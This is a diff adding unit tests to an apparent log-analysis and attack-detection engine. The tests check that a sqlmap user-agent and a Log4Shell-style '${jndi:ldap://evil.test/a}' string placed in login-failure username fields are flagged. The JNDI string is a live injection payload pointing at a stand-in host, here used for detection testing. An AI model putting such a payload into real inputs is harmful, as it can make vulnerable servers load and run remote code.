@@ -301,3 +301,17 @@ def test_a_token_that_nobody_signed_says_so_without_its_content(engine, form, at
     plain = redact_event(line)
     assert UNSIGNED not in plain and _read(plain).template == _read(line).template
     assert engine.judge(plain, "").rule_ids == engine.judge(line, "").rule_ids
+
+
+def test_what_a_guard_keeps_of_a_request_without_a_page_is_told():
+    told = _read(json.dumps({"transaction": {"client_ip": "203.0.113.9", "request": {"method": "GET", "headers": {"user-agent": "sqlmap/1.7"}}, "messages": [{"message": "Invalid URI"}]}}))
+    assert told.kind == "web" and "agent attack tool sqlmap" in told.template and "warning invalid uri" in told.template
+
+
+@pytest.mark.parametrize("line", [
+    "{{core}} Login failed: '{}' (Remote IP: '203.0.113.9')", "[2031-03-01 10:11:12] production.WARNING: Login failed: '{}' (Remote IP: '203.0.113.9')",
+    "2031-03-01 10:11:12.123 INFO 1 --- [main] o.s.AuditListener : Authentication event AuthenticationFailureX: {}; details: W [RemoteIpAddress=203.0.113.9]"])
+def test_a_name_that_is_an_attack_stays_in_sight(line):
+    told = _read(line.format("${jndi:ldap://evil.test/a}"))
+    assert told.action == "login failed" and "jndi ldap" in told.template and "jndi:ldap" in " ".join(told.focus)
+    assert not _read(line.format("ann")).focus
